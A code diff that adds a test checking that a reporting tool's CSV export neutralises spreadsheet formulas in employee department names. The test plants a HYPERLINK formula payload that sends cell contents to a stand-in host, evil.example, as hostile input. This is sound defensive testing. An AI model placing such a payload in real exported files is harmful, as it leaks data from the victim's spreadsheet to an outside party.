@@ -97,3 +97,35 @@ def test_cli_prints_charts_and_writes_csv_and_json(
         assert too_few.exit_code == 0 and "needs at least 512" in too_few.output
     finally:
         get_settings.cache_clear()
+
+
+def test_learning_csv_never_writes_a_live_formula(
+    played: int, runtime: Runtime, monkeypatch, tmp_path
+) -> None:  # type: ignore[no-untyped-def]
+    from sqlalchemy import update
+
+    from app.core.config import get_settings
+    from app.employees.models import Employee
+
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'
+    with runtime.session_factory() as session:
+        session.execute(update(Employee).values(department=hostile))
+        session.commit()
+    monkeypatch.setenv("NANOLEARN_DATABASE_URL", runtime.settings.database_url)
+    monkeypatch.setenv("NANOLEARN_DATA_DIR", str(tmp_path))
+    monkeypatch.setenv("NANOLEARN_SECRET_KEY", runtime.settings.secret().decode())
+    monkeypatch.setenv("NANOLEARN_REPORT_MIN_GROUP_SIZE", "1")  # the department is shown
+    get_settings.cache_clear()
+    try:
+        target = tmp_path / "learning.csv"
+        done = CliRunner().invoke(
+            cli, ["report", "learning", "-c", str(played), "-f", "csv", "-o", str(target)]
+        )
+        assert done.exit_code == 0, done.output
+    finally:
+        get_settings.cache_clear()
+    cells = [c for row in csv.reader(io.StringIO(target.read_text("utf-8"))) for c in row]
+    assert "'" + hostile in cells  # shown as text, the department name intact
+    assert not [
+        c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and not c[1:2].isdigit())
+    ]
